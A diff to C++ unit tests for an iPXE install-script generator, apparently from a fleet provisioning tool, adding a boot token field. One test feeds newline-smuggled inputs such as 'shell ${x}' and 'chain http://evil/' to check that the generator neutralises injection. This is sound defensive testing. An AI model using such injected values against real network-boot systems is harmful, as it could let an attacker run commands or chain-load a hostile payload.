@@ -15,22 +15,25 @@ TEST(IpxeScriptTest, InstallBootsTheKernelWithServerDiskAndBootif) {
                      .server = "10.0.0.1:7010",
                      .node = "web03",
                      .disk = "nvme0n1",
-                     .extra_args = "console=ttyS0"};
+                     .extra_args = "console=ttyS0",
+                     .token = "00112233445566778899aabbccddeeff"};
   EXPECT_EQ(IpxeInstallScript(boot),
             "#!ipxe\n"
             "echo fleetcast: installing web03 from 10.0.0.1:7010\n"
             "kernel http://10.0.0.1:8080/boot/files/vmlinuz initrd=initrd.img "
             "fleetcast.server=10.0.0.1:7010 BOOTIF=01-${netX/mac:hexhyp} fleetcast.disk=nvme0n1 "
-            "console=ttyS0\n"
+            "fleetcast.token=00112233445566778899aabbccddeeff console=ttyS0\n"
             "initrd http://10.0.0.1:8080/boot/files/initrd.img\n"
             "boot\n");
 }
 
 TEST(IpxeScriptTest, NoDiskNoExtraArguments) {
   InstallerBoot boot{
-      .http_base = "http://h:1", .server = "h:2", .node = "n", .disk = "", .extra_args = ""};
+      .http_base = "http://h:1", .server = "h:2", .node = "n", .disk = "", .extra_args = "",
+      .token = ""};
   const std::string script = IpxeInstallScript(boot);
   EXPECT_EQ(script.find("fleetcast.disk"), std::string::npos);
+  EXPECT_EQ(script.find("fleetcast.token"), std::string::npos);
   EXPECT_NE(script.find("BOOTIF=01-${netX/mac:hexhyp}\n"), std::string::npos);
 }
 
@@ -41,7 +44,8 @@ TEST(IpxeScriptTest, ForeignTextCannotInjectCommandsOrSettings) {
                      .server = "h:2",
                      .node = "n\nshell ${x}",
                      .disk = "",
-                     .extra_args = "quiet\nchain http://evil/"};
+                     .extra_args = "quiet\nchain http://evil/",
+                     .token = ""};
   const std::string script = IpxeInstallScript(boot);
   EXPECT_NE(script.find("installing nshell {x} from"), std::string::npos);
   EXPECT_NE(script.find("quietchain http://evil/\n"), std::string::npos);
